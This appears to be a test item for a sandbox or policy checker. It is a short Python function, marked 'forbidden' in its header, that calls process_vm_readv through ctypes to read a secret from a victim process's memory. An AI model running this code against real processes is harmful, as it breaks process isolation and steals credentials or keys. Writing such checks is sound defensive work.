# /// check
# verdict = ["forbidden"]
# tests = ["assert f($victim, $address) == $secret"]
# ///
import ctypes
import os


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def f(pid, address):
    buffer = ctypes.create_string_buffer(32)
    own = Vector(ctypes.addressof(buffer), 32)
    other = Vector(address, 32)
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.process_vm_readv(pid, ctypes.byref(own), 1, ctypes.byref(other), 1, 0) != 32:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return buffer.raw.decode()
